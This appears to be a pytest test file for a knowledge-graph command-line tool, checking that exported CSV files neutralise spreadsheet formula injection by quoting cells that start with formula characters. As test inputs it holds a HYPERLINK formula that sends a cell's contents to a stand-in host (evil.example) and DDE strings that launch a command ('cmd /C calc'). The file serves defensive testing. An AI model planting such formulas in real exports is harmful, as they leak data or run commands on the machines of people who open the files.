"""No CSV the project writes holds a cell that Excel would run as a formula (OWASP's rule; issue 11)."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from kg.cli import cli
from kg.results import csv_text

from conftest import SMALL_FACTS

pytestmark = pytest.mark.faults

FIXTURES = Path(__file__).parent / "fixtures" / "extract"
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def excel_cells(data: bytes) -> list[list[str]]:
    """The cells as Excel reads a CSV file: UTF-8 after its BOM, commas, double quotes, CRLF rows."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def formulas(cells: list[list[str]]) -> list[str]:
    """The cells Excel would evaluate: a text that starts with = + - @ (or tab, CR), quoted or not."""
    return [cell for row in cells for cell in row if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)]


def test_a_hostile_title_goes_through_extract_build_and_query_as_text(runner, tmp_path):
    documents = tmp_path / "in"
    documents.mkdir()
    body = (FIXTURES / "decision_notice.txt").read_text(encoding="utf-8")
    (documents / "notice.txt").write_text(TITLE + "\n\n" + body, encoding="utf-8")
    facts, out = tmp_path / "facts", tmp_path / "exports"
    assert runner.invoke(cli, ["extract", str(documents), "--out", str(facts), "--jobs", "1",
                               "--no-progress"]).exit_code == 0
    built = runner.invoke(cli, ["build", "--facts", str(facts), "--out", str(out)])
    assert built.exit_code == 0, built.output
    titles = tmp_path / "titles.rq"
    titles.write_text("PREFIX dcterms: <http://purl.org/dc/terms/>\n"
                      "SELECT ?title WHERE { ?document dcterms:title ?title }\n", encoding="utf-8")
    answer = runner.invoke(cli, ["query", str(titles), "--data", str(out / "qgov.ttl"), "--format", "csv"])
    assert answer.exit_code == 0, answer.output
    cells = excel_cells(answer.stdout_bytes)
    assert cells == [["title"], ["'" + TITLE]]  # shown as the text it is, never run
    for table in sorted((out / "analytics").glob("*.csv")):
        assert formulas(excel_cells(table.read_bytes())) == [], table.name


def test_hostile_names_in_the_analytics_tables_are_text(runner, write_facts, tmp_path):
    names = {"丙科技股份有限公司": "@SUM(1+1)*cmd|' /C calc'!A0", "张三": "-2+3+cmd|' /C calc'!A0"}
    hostile = SMALL_FACTS
    for name, evil in names.items():
        hostile = re.sub(rf"(?m)(: ){name}$", lambda m: m.group(1) + json.dumps(evil), hostile)
    folder = write_facts(hostile)
    out = tmp_path / "exports"
    result = runner.invoke(cli, ["build", "--facts", str(folder), "--out", str(out), "--no-validate"])
    assert result.exit_code == 0, result.output
    seen = set()
    for table in sorted((out / "analytics").glob("*.csv")):
        cells = excel_cells(table.read_bytes())
        assert formulas(cells) == [], table.name
        seen |= {cell for row in cells for cell in row}
    assert {"'" + evil for evil in names.values()} <= seen  # there, as text


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@A1", "'@A1"), ("\tA1", "'\tA1"), ("\rA1", "'\rA1"),
    ("-3", "-3"), ("+0.5", "+0.5"), ("1e5", "1e5"), ("a=b", "a=b"), ("", ""), ("质量", "质量"), (7, "7"),
])
def test_each_formula_start_is_neutralised_and_numbers_stay(value, written):
    assert excel_cells(csv_text(["v"], [[value]]).encode("utf-8"))[1] == [written]
